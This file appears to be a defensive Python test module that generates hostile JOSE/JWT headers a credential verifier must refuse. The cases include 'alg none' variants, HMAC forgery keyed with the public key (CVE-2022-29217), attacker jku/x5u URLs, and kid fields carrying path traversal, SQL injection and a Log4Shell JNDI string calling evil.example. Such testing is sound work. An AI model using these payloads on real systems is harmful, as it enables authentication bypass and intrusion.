"""The JOSE header matrix: what a header may not say, or not so (threats 6 and 7; RFC 8725).

Each header is signed by the honest key, so that the gate alone can refuse; and again swapped in
under the honest signature, as somebody does who has no key at all.
"""

from __future__ import annotations

import hashlib
import hmac
from collections.abc import Iterator
from typing import Any

from credstone.securing.keys import to_jwk
from tests.hostile.case import Case, Exclusion
from tests.hostile.honest import Honest, credentials, enveloped
from tests.hostile.keys import ATTACKER, b64, header_of, issuer_of, method_of, token
from tests.hostile.touch import written

NAME = "jose header"

_ALGORITHMS = [
    "none",
    "None",
    "NONE",
    "nOnE",
    "HS256",
    "HS384",
    "HS512",
    "hs256",
    "RS256",
    "RS384",
    "RS512",
    "PS256",
    "PS512",
    "ES256K",
    "ES512",
    "es256",
    "ed25519",
    "eddsa",
    "EDDSA",
    "Ed448",
    "ECDH-ES",
    "dir",
    "A128KW",
    "RSA-OAEP",
    "SHA256",
    "HS256/64",
    "ESP256",
    "ES256R",
]
_ODD: tuple[Any, ...] = (None, True, 0, 1, "", [], ["EdDSA"], {}, {"alg": "EdDSA"}, "\0")


def cases() -> Iterator[Case | Exclusion]:
    for honest in credentials():
        if honest.is_token and honest.name.endswith(("minimal", "badge")):
            yield from _signed_headers(honest)
            yield from _symmetric(honest)


def _signed_headers(honest: Honest) -> Iterator[Case]:
    for name, header in headers(honest):
        text = header if isinstance(header, bytes) else written(header)
        good = token(text, honest.value, honest.signer)
        yield _case(f"{honest.name}/signed {name}", good)
        if honest.name.endswith("badge"):
            continue
        kept = b".".join((b64(text), *honest.data.split(b".")[1:]))
        yield _case(f"{honest.name}/swapped {name}", kept)
        yield _case(f"{honest.name}/enveloped {name}", written(enveloped(good)))


def headers(honest: Honest) -> Iterator[tuple[str, Any]]:
    """Every header that must be refused although its key has signed it."""
    signer = honest.signer
    own = header_of(signer)
    for algorithm in _ALGORITHMS:
        yield f"alg named {algorithm}", own | {"alg": algorithm}
    for other in ("EdDSA", "Ed25519", "ES256", "ES384"):
        if other not in _fitting(own["alg"]):
            yield f"alg of another key {other}", own | {"alg": other}
    yield from _odd_members(own)
    yield from _brought_keys(own)
    for name, crit in {
        "unknown": ["https://evil.example/ext"],
        "b64": ["b64"],
        "exp": ["exp"],
        "empty": [],
        "text": "b64",
        "twice": ["b64", "b64"],
        "alg": ["alg"],
        "null": None,
        "numbers": [1],
        "itself": ["crit"],
    }.items():
        yield f"crit {name}", own | {"crit": crit}
    for value in (True, False, "true", None):
        yield f"b64 {value}", own | {"b64": value}
        yield f"b64 {value} critical", own | {"b64": value, "crit": ["b64"]}
    for value in ("DEF", "GZIP", "", None):
        yield f"zip {value}", own | {"zip": value}
    yield "encrypted", own | {"enc": "A256GCM"}
    for typ in (
        "JWT",
        "jwt",
        "",
        "vp+jwt",
        "vc+ld+json+jwt",
        "VC+JWT",
        "vc+sd-jwt",
        "at+jwt",
        "application/vp+jwt",
        "text/vc+jwt",
        "vc+jwt ",
        "trust-list+jwt",
        "vc+cose",
    ):
        yield f"typ {typ}", own | {"typ": typ}
    for cty in ("vp", "JWT", "json", "", "VC", "vc ", "application/vp", "vc+jwt"):
        yield f"cty {cty}", own | {"cty": cty}
    yield from _written_headers(written(own))


def _fitting(algorithm: str) -> tuple[str, ...]:
    return ("EdDSA", "Ed25519") if algorithm == "EdDSA" else (algorithm,)


def _odd_members(own: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    for member in ("alg", "kid", "typ"):
        for odd in _ODD:
            yield f"{member} {odd!r}", own | {member: odd}
        yield f"{member} missing", {name: own[name] for name in own if name != member}
    for odd in (None, True, 0, [], {}):
        yield f"cty {odd!r}", own | {"cty": odd}
    kid = own["kid"]
    for number, odd_kid in enumerate(
        (
            "../../dev/null",
            "../../../../etc/passwd",
            "/dev/null",
            "file:///dev/null",
            "' or 1=1 --",
            '" or ""="',
            "1; DROP TABLE keys",
            "https://evil.example/key.json",
            "http://127.0.0.1/k",
            "did:web:127.0.0.1",
            "did:web:localhost%3A8000#k",
            "did:web:evil.example#k",
            "did:key:",
            "did:key:z6Mk",
            "did:jwk:e30#0",
            "did:jwk:bnVsbA#0",
            "did:example:1#k",
            "a" * 257,
            "a" * 5000,
            kid + "x",
            kid[:-1],
            kid.partition("#")[0],
            f"{kid}#",
            f"{kid}?x",
            f" {kid}",
            f"{kid} ",
            f"{kid}\n",
            f"{kid}\0",
            kid.upper(),
            kid.replace("#", "%23"),
            f"#{kid}",
            kid.replace("did:key:z", "did:key:u"),
            kid.partition("#")[2],
            f"{kid}/../x",
            method_of(ATTACKER),
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "\ufeff" + kid,
            kid.replace("did:", "DID:"),
            kid.replace("did:key:", "did:key:1.1:"),
            "0",
            "-1",
        )
    ):
        yield f"kid {number} {odd_kid[:40]!r}", own | {"kid": odd_kid}
    yield "kid in an array", own | {"kid": [kid]}
    yield "kid as a jwk", own | {"kid": to_jwk(ATTACKER.public)}
    for claim in ("iss", "x"):
        yield f"{claim} of another", own | {"iss": f"did:web:{claim}.example"}
    yield "iss is no text", own | {"iss": [kid]}


def _brought_keys(own: dict[str, Any]) -> Iterator[tuple[str, Any]]:
    jwk = to_jwk(ATTACKER.public)
    for member, value in {
        "jwk": jwk,
        "jku": "https://evil.example/jwks.json",
        "x5u": "https://evil.example/cert.pem",
        "x5c": ["MIIB"],
        "x5t": "AAAA",
        "x5t#S256": "AAAA",
        "epk": jwk,
    }.items():
        for odd in (value, None, "", [], {}):
            if member != "epk":
                yield f"{member} {str(odd)[:12]!r}", own | {member: odd}
        if member != "epk":
            alone = {name: own[name] for name in own if name != "kid"}
            yield f"{member} and no kid", alone | {member: value}


def _written_headers(text: bytes) -> Iterator[tuple[str, bytes]]:
    """The same header written so that two readers see two headers, or none."""
    for name, twin in {
        "alg none last": text[:-1] + b',"alg":"none"}',
        "alg none first": b'{"alg":"none",' + text[1:],
        "kid twice": text[:-1] + b',"kid":"did:web:evil.example"}',
        "typ twice": text[:-1] + b',"typ":"vc+jwt"}',
        "alg twice, escaped": text[:-1] + b',"\\u0061lg":"none"}',
        "byte order mark": b"\xef\xbb\xbf" + text,
        "UTF-16": text.decode().encode("utf-16"),
        "trailing comma": text[:-1] + b",}",
        "two objects": text + text,
        "array": b"[" + text + b"]",
        "text": b'"' + text.replace(b'"', b'\\"') + b'"',
        "null": b"null",
        "number": b"1",
        "nothing": b"",
        "spaces": b"   ",
        "NaN": text[:-1] + b',"x":NaN}',
        "huge integer": text[:-1] + b',"x":' + b"9" * 400 + b"}",
        "lone surrogate": text[:-1] + b',"x":"\\ud800"}',
        "not UTF-8": text[:-1] + b',"x":"\xff"}',
        "comment": text[:-1] + b"/**/}",
        "single quotes": text.replace(b'"', b"'"),
        "deep": text[:-1] + b',"x":' + b"[" * 900 + b"]" * 900 + b"}",
        "long": text[:-1] + b',"x":"' + b"a" * 5000 + b'"}',
        "cut": text[:-2],
    }.items():
        yield f"written with {name}", twin


def _symmetric(honest: Honest) -> Iterator[Case]:
    """The public key, known to all, as the secret of an HMAC (CVE-2022-29217 and its kin)."""
    public = honest.signer.public.raw
    secrets = {
        "raw key": public,
        "jwk": written(to_jwk(honest.signer.public)),
        "multikey": issuer_of(honest.signer).encode(),
        "kid": method_of(honest.signer).encode(),
        "empty": b"",
    }
    for algorithm, digest in (("HS256", "sha256"), ("HS384", "sha384"), ("HS512", "sha512")):
        for name, secret in secrets.items():
            signed = b".".join(
                (b64(written(header_of(honest.signer, alg=algorithm))), b64(written(honest.value)))
            )
            code = hmac.new(secret, signed, getattr(hashlib, digest)).digest()
            for length in sorted({len(code), 64}):
                padded = code.ljust(length, b"\0")[:length]
                yield _case(
                    f"{honest.name}/{algorithm} with {name}, {length} bytes",
                    signed + b"." + b64(padded),
                )


def _case(name: str, data: bytes) -> Case:
    return Case(f"{NAME}/{name}", NAME, data)
